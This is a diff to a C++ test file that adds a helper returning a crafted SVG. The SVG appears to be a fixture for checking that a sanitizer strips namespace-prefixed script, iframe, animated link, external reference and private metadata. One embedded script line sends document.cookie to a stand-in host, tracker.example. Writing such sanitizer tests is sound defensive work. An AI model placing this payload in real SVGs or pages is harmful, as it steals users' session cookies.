@@ -18,4 +18,20 @@ std::string editorDrawingSvg(std::size_t minimumBytes) {
     return svg + "</svg>\n";
 }
 
+std::string prefixedPrivateSvg() {
+    return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
+           "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:svg=\"http://www.w3.org/2000/svg\"\n"
+           "     xmlns:x=\"http://www.w3.org/1999/xlink\" xmlns:ink=\"http://www.inkscape.org/namespaces/inkscape\"\n"
+           "     xmlns:d=\"http://purl.org/dc/elements/1.1/\" xmlns:r=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"\n"
+           "     xmlns:h=\"http://www.w3.org/1999/xhtml\" ink:export-filename=\"/home/jane/Pictures/plan.png\">\n"
+           "  <svg:metadata><r:RDF><d:creator>Jane Roe</d:creator></r:RDF></svg:metadata>\n"
+           "  <svg:script>fetch('https://tracker.example/p?c=' + document.cookie)</svg:script>\n"
+           "  <svg:foreignObject width=\"10\" height=\"10\"><h:iframe src=\"https://tracker.example/f\"/>"
+           "</svg:foreignObject>\n"
+           "  <a id=\"go\"><set attributeName=\"href\" to=\"https://tracker.example/click\"/>"
+           "<rect width=\"10\" height=\"10\"/></a>\n"
+           "  <use x:href=\"https://tracker.example/sprite.svg#icon\"/>\n"
+           "</svg>\n";
+}
+
 }  // namespace velquor::testing
